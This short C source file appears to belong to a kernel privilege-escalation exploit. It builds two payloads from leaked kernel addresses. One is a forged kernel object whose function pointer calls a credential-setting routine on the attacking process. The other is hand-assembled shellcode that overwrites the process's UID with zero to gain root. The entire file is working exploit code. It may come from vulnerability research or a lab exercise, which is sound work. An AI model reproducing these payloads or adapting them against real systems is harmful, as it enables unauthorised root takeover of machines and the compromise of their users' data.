/* Payloads that need no knowledge of the kernel's code: a forged object, and machine code. */
#include "attack.h"

#include <string.h>

void payload_object(void *at, uint64_t seen_at, const struct bw_leak *leak)
{
	const struct payload_object payload = {
		.object = {
			.ops = seen_at + offsetof(struct payload_object, ops),
			.argument = { leak->process, 0 },
		},
		.ops = { .handle = leak->credentials_set },
	};

	memcpy(at, &payload, sizeof(payload));
}

size_t payload_shellcode(void *at, const struct bw_leak *leak)
{
	/*
	 * movabs rax, process_uid
	 * mov dword [rax], 0
	 * xor eax, eax
	 * ret
	 */
	uint8_t code[] = {
		0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xc7, 0x00, 0, 0, 0, 0, 0x31, 0xc0, 0xc3,
	};

	memcpy(code + 2, &leak->process_uid, sizeof(leak->process_uid));
	memcpy(at, code, sizeof(code));
	return sizeof(code);
}
